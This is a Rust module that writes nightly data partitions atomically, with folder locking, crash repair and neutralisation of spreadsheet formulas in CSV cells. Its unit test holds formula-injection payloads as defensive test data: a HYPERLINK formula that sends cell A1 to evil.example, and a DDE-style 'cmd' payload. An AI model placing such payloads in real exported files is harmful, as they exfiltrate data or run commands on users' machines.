//! Writing results: Parquet, CSV or JSON lines files in a temporary folder
//! beside the final one, renamed into place only when everything is
//! written, so a failed or killed run never leaves a half-written night and
//! never destroys the previous one.

use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};

use std::borrow::Cow;
use std::sync::Arc;

use chrono::NaiveDate;
use datafusion::arrow::array::{ArrayRef, RecordBatch, StringArray};
use datafusion::arrow::compute::cast;
use datafusion::arrow::datatypes::{DataType, Field, Schema, SchemaRef};
use datafusion::parquet::arrow::ArrowWriter;
use datafusion::parquet::basic::Compression;
use datafusion::parquet::file::properties::WriterProperties;
use datafusion::parquet::schema::types::ColumnPath;

use crate::base::{FileFormat, names};
use crate::diagnostics::{Code, Diagnostic};

/// The folder name of one night's partition.
pub fn partition_name(as_of: NaiveDate) -> String {
    format!("as_of={}", as_of.format("%Y-%m-%d"))
}

/// Parse a partition folder name back into its date.
pub fn partition_date(name: &str) -> Option<NaiveDate> {
    let date = name.strip_prefix("as_of=")?;
    NaiveDate::parse_from_str(date, "%Y-%m-%d").ok()
}

/// The definitions hash an earlier night's manifest records, if it does.
pub fn recorded_definitions(partition: &std::path::Path) -> Option<String> {
    let text = std::fs::read(partition.join(crate::base::names::MANIFEST_FILE)).ok()?;
    let manifest: serde_json::Value = serde_json::from_slice(&text).ok()?;
    manifest["pipeline"]["definitions_sha256"]
        .as_str()
        .map(str::to_string)
}

/// Earlier partitions in an output folder, newest first.
pub fn earlier_partitions(out: &Path, before: NaiveDate) -> Vec<(NaiveDate, PathBuf)> {
    let mut found: Vec<(NaiveDate, PathBuf)> = std::fs::read_dir(out)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| {
            let date = partition_date(&entry.file_name().to_string_lossy())?;
            (date < before && entry.path().is_dir()).then(|| (date, entry.path()))
        })
        .collect();
    found.sort_by_key(|(date, _)| std::cmp::Reverse(*date));
    found
}

/// A file name for a table in the chosen format.
pub fn file_name(table: &str, format: FileFormat) -> String {
    format!("{table}.{}", format.extension())
}

/// How text cells are written to CSV.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvCells {
    /// A cell a spreadsheet would run as a formula gets a leading `'`.
    Neutralised,
    /// Every cell as computed.
    AsComputed,
}

/// What a spreadsheet may take as the start of a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell made inert for spreadsheets: `=1+1` becomes `'=1+1`.
fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read back from a CSV file written with [`CsvCells::Neutralised`],
/// as it was computed: the `'` before a formula start is removed again
/// (`'=1+1` reads `=1+1`). A computed cell that itself began with `'` and
/// a formula start reads without its `'`; nothing else changes.
pub fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// The batches with every text column's cells [`neutralised`]; text
/// columns become `Utf8`.
fn neutralise(
    schema: &SchemaRef,
    batches: &[RecordBatch],
) -> Result<(SchemaRef, Vec<RecordBatch>), String> {
    let is_text =
        |t: &DataType| matches!(t, DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View);
    let fields: Vec<Field> = schema
        .fields()
        .iter()
        .map(|f| match is_text(f.data_type()) {
            true => Field::new(f.name(), DataType::Utf8, f.is_nullable()),
            false => f.as_ref().clone(),
        })
        .collect();
    let output = Arc::new(Schema::new(fields));
    let batches = batches
        .iter()
        .map(|batch| {
            let columns = batch
                .columns()
                .iter()
                .map(|column| {
                    if !is_text(column.data_type()) {
                        return Ok(Arc::clone(column));
                    }
                    let text = cast(column, &DataType::Utf8).map_err(|e| e.to_string())?;
                    let text = text
                        .as_any()
                        .downcast_ref::<StringArray>()
                        .ok_or("a text column is not text")?;
                    let cells: StringArray = text.iter().map(|v| v.map(neutralised)).collect();
                    Ok(Arc::new(cells) as ArrayRef)
                })
                .collect::<Result<Vec<_>, String>>()?;
            RecordBatch::try_new(Arc::clone(&output), columns).map_err(|e| e.to_string())
        })
        .collect::<Result<Vec<_>, String>>()?;
    Ok((output, batches))
}

/// Snappy-compressed Parquet, dictionary-encoded but for floats and
/// timestamps: their values rarely repeat, so a dictionary costs time
/// and bytes (see docs/benchmarks.md).
fn writer_properties(schema: &SchemaRef) -> WriterProperties {
    let mut builder = WriterProperties::builder()
        .set_compression(Compression::SNAPPY)
        .set_created_by(format!("vane {}", env!("CARGO_PKG_VERSION")));
    for field in schema.fields() {
        if matches!(
            field.data_type(),
            DataType::Float64 | DataType::Float32 | DataType::Timestamp(..)
        ) {
            builder = builder
                .set_column_dictionary_enabled(ColumnPath::from(field.name().as_str()), false);
        }
    }
    builder.build()
}

/// Write batches to `path` in `format`. Deterministic: same batches, same bytes.
pub fn write_table(
    path: &Path,
    schema: &SchemaRef,
    batches: &[RecordBatch],
    format: FileFormat,
    cells: CsvCells,
) -> Result<(), String> {
    if format == FileFormat::Csv && cells == CsvCells::Neutralised {
        let (schema, batches) = neutralise(schema, batches)?;
        return write_table(path, &schema, &batches, format, CsvCells::AsComputed);
    }
    let file = File::create(path).map_err(|e| e.to_string())?;
    match format {
        FileFormat::Parquet | FileFormat::Arrow => {
            let properties = writer_properties(schema);
            let mut writer = ArrowWriter::try_new(file, schema.clone(), Some(properties))
                .map_err(|e| e.to_string())?;
            for batch in batches {
                writer.write(batch).map_err(|e| e.to_string())?;
            }
            // Writes the footer, like `close`, and hands the file back to sync.
            let file = writer.into_inner().map_err(|e| e.to_string())?;
            file.sync_all().map_err(|e| e.to_string())?;
        }
        FileFormat::Csv => {
            let mut writer = datafusion::arrow::csv::WriterBuilder::new()
                .with_header(true)
                .build(file);
            if batches.is_empty() {
                let header = schema
                    .fields()
                    .iter()
                    .map(|f| f.name().as_str())
                    .collect::<Vec<_>>()
                    .join(",");
                let mut file = writer.into_inner();
                writeln!(file, "{header}").map_err(|e| e.to_string())?;
                file.sync_all().map_err(|e| e.to_string())?;
            } else {
                for batch in batches {
                    // Each batch is flushed to the file as it is written.
                    writer.write(batch).map_err(|e| e.to_string())?;
                }
                writer.into_inner().sync_all().map_err(|e| e.to_string())?;
            }
        }
        FileFormat::JsonLines => {
            let mut writer = datafusion::arrow::json::LineDelimitedWriter::new(file);
            for batch in batches {
                writer.write(batch).map_err(|e| e.to_string())?;
            }
            writer.finish().map_err(|e| e.to_string())?;
            writer.into_inner().sync_all().map_err(|e| e.to_string())?;
        }
    }
    Ok(())
}

/// Write `bytes` to a new file at `path` and sync it to disk.
pub fn write_synced(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let mut file = File::create(path)?;
    file.write_all(bytes)?;
    file.sync_all()
}

/// Sync a folder's entries (new, renamed and removed names) to disk. Only
/// Unix can open a folder to sync it; elsewhere renames are left to the OS.
fn sync_folder(path: &Path) -> std::io::Result<()> {
    if cfg!(unix) {
        File::open(path)?.sync_all()
    } else {
        Ok(())
    }
}

/// What a hidden folder next to the partitions was for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Leftover {
    /// `.as_of=D.tmp-PID`: a night being written.
    Staging,
    /// `.as_of=D.old-PID`: the earlier run of a night being replaced.
    Replaced,
}

/// `(night, kind, pid)` of a folder [`Staged`] names, e.g. `.as_of=2026-11-01.tmp-42`.
fn leftover(name: &str) -> Option<(String, Leftover, u32)> {
    let (night, suffix) = name.strip_prefix('.')?.rsplit_once('.')?;
    partition_date(night)?;
    let (kind, pid) = if let Some(pid) = suffix.strip_prefix("tmp-") {
        (Leftover::Staging, pid)
    } else {
        (Leftover::Replaced, suffix.strip_prefix("old-")?)
    };
    Some((night.to_string(), kind, pid.parse().ok()?))
}

/// Whether the process `pid` may still be running. Only Linux can tell
/// (`/proc`); elsewhere every process counts as running, so nothing of a
/// live run is ever touched.
fn may_be_running(pid: u32) -> bool {
    if pid == std::process::id() {
        return true;
    }
    if cfg!(target_os = "linux") {
        Path::new("/proc").join(pid.to_string()).exists()
    } else {
        true
    }
}

/// The lock a run holds on its output folder while it reads earlier
/// nights and writes its own; removed when dropped.
pub struct OutputLock {
    path: PathBuf,
}

/// Why an output folder could not be locked.
enum LockError {
    /// Another run that is still going holds it.
    Held {
        /// That run's process id.
        pid: u32,
    },
    /// The folder or the lock file could not be written.
    Io(std::io::Error),
}

impl OutputLock {
    /// Take the lock on `out` (created if missing): a `.vane.lock` file
    /// holding this process's id. A lock left by a process that no longer
    /// runs is taken over.
    fn take(out: &Path) -> Result<OutputLock, LockError> {
        std::fs::create_dir_all(out).map_err(LockError::Io)?;
        let path = out.join(names::LOCK_FILE);
        for _ in 0..2 {
            match std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .open(&path)
            {
                Ok(mut file) => {
                    write!(file, "{}", std::process::id()).map_err(LockError::Io)?;
                    return Ok(OutputLock { path });
                }
                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
                    let holder = std::fs::read_to_string(&path)
                        .ok()
                        .and_then(|text| text.trim().parse::<u32>().ok());
                    match holder {
                        Some(pid) if may_be_running(pid) => return Err(LockError::Held { pid }),
                        _ => std::fs::remove_file(&path).map_err(LockError::Io)?,
                    }
                }
                Err(e) => return Err(LockError::Io(e)),
            }
        }
        Err(LockError::Io(std::io::Error::other(
            "the lock file keeps reappearing",
        )))
    }
}

impl Drop for OutputLock {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

/// Claim `out` for a run: take its lock, then repair what killed runs left
/// there. Returns the lock (held until dropped) and the repairs, in words.
pub fn claim(out: &Path) -> Result<(OutputLock, Vec<String>), Diagnostic> {
    let folder = out.display();
    let lock = OutputLock::take(out).map_err(|e| match e {
        LockError::Held { pid } => Diagnostic::error(
            Code::OutputFailed,
            format!("another run is writing {folder} (pid {pid})"),
        )
        .help("wait for it to finish; runs into one output folder take turns"),
        LockError::Io(e) => {
            Diagnostic::error(Code::OutputFailed, format!("cannot lock {folder}: {e}"))
                .help("check that the output folder is writable; earlier nights are untouched")
        }
    })?;
    let repairs = repair(out).map_err(|e| {
        Diagnostic::error(
            Code::OutputFailed,
            format!("cannot repair {folder} after an interrupted run: {e}"),
        )
        .help("check that the output folder is writable; earlier nights are untouched")
    })?;
    Ok((lock, repairs))
}

/// Repair what runs that were killed left in `out`: a night whose
/// replacement was interrupted between its two renames is restored, and
/// staging folders and replaced nights of processes no longer running are
/// removed. Returns what was done, in words.
fn repair(out: &Path) -> std::io::Result<Vec<String>> {
    let Ok(entries) = std::fs::read_dir(out) else {
        return Ok(Vec::new());
    };
    let mut found: Vec<(String, Leftover, u32, PathBuf)> = entries
        .flatten()
        .filter_map(|entry| {
            let (night, kind, pid) = leftover(&entry.file_name().to_string_lossy())?;
            (entry.path().is_dir() && !may_be_running(pid))
                .then(|| (night, kind, pid, entry.path()))
        })
        .collect();
    // Newest first, so the night restored is the one replaced last.
    found.sort_by_key(|(_, _, _, path)| {
        std::cmp::Reverse(std::fs::metadata(path).and_then(|m| m.modified()).ok())
    });
    let mut done = Vec::new();
    for (night, kind, pid, path) in found {
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let target = out.join(&night);
        if kind == Leftover::Replaced && !target.exists() {
            std::fs::rename(&path, &target)?;
            done.push(format!(
                "restored {night}, which a run (pid {pid}) stopped while replacing it"
            ));
        } else {
            std::fs::remove_dir_all(&path)?;
            done.push(format!(
                "removed {name}, left by a run (pid {pid}) that did not finish"
            ));
        }
    }
    Ok(done)
}

/// A partition being written: a hidden temporary folder that becomes the
/// partition on [`Staged::commit`], or disappears when dropped uncommitted.
pub struct Staged {
    /// The temporary folder files are written into.
    pub dir: PathBuf,
    target: PathBuf,
    committed: bool,
}

impl Staged {
    /// Start a partition `name` under `out` (created if missing).
    pub fn new(out: &Path, name: &str) -> std::io::Result<Staged> {
        std::fs::create_dir_all(out)?;
        let dir = out.join(format!(".{name}.tmp-{}", std::process::id()));
        if dir.exists() {
            std::fs::remove_dir_all(&dir)?;
        }
        std::fs::create_dir(&dir)?;
        Ok(Staged {
            dir,
            target: out.join(name),
            committed: false,
        })
    }

    /// Move the finished partition into place, replacing an earlier run of
    /// the same night as a whole.
    pub fn commit(mut self) -> std::io::Result<PathBuf> {
        let old = self.target.with_file_name(format!(
            ".{}.old-{}",
            self.target
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default(),
            std::process::id()
        ));
        let parent = self
            .target
            .parent()
            .map(Path::to_path_buf)
            .unwrap_or_default();
        // Every file of the night is on disk before any name points at it.
        sync_folder(&self.dir)?;
        let replaced = self.target.exists();
        if replaced {
            std::fs::rename(&self.target, &old)?;
        }
        if let Err(e) = std::fs::rename(&self.dir, &self.target) {
            if replaced {
                let _ = std::fs::rename(&old, &self.target);
            }
            return Err(e);
        }
        self.committed = true;
        sync_folder(&parent)?;
        if replaced {
            // If this fails, the next run's `repair` removes what is left.
            let _ = std::fs::remove_dir_all(&old);
        }
        Ok(self.target.clone())
    }
}

impl Drop for Staged {
    fn drop(&mut self) {
        if !self.committed {
            let _ = std::fs::remove_dir_all(&self.dir);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised_and_nothing_else() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralised(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in ["Acme", "", "a=b", " =1", "'=1"] {
            assert_eq!(neutralised(cell), cell, "{cell:?}");
        }
        for cell in ["=1+1", "-2", "@x", "Acme", "", "'quoted"] {
            assert_eq!(restored(&neutralised(cell)), cell, "{cell:?}");
        }
    }
}
